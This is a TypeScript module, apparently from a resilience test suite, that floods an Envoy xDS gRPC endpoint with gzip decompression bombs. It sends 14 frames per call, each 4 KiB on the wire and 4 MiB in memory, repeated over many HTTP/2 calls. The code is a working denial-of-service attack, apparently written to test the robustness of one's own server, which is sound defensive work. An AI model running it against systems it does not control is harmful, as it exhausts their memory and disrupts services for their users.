import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import type { Attack } from '../attack.js';
import { grpcFrame, openGrpcCall, openHttp2 } from '../raw-http2.js';

const CALLS = 300;
const MESSAGES_PER_CALL = 14;
/** 4 KiB on the wire, 4 MiB in memory. */
const BOMB = grpcFrame(gzipSync(Buffer.alloc(4 * 2 ** 20)));
BOMB[0] = 1;
const BOMBS = Buffer.concat(Array<Buffer>(MESSAGES_PER_CALL).fill(BOMB));

export const attack: Attack = {
  title: `${CALLS} calls with ${MESSAGES_PER_CALL} compressed messages of 4 MiB each, repeatedly`,
  async run({ host, ports }, scale, signal) {
    const path = '/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources';
    const sessions = Array.from({ length: 10 }, () => openHttp2({ host, port: ports.grpc }));
    const untilMs = performance.now() + (this.durationMs ?? 10_000);
    let calls = 0;
    let answered = 0;
    while (performance.now() < untilMs && !signal.aborted) {
      for (let call = 0; call < CALLS * scale; call++) {
        const session = sessions[call % sessions.length];
        if (session === undefined || session.destroyed || session.closed) continue;
        calls++;
        const stream = openGrpcCall(session, path, { 'grpc-encoding': 'gzip' });
        stream.on('response', () => answered++);
        stream.resume();
        stream.write(BOMBS);
      }
      await delay(1000, undefined, { signal }).catch(() => undefined);
    }
    for (const session of sessions) session.destroy();
    return `${calls} calls, ${answered} answered`;
  },
};
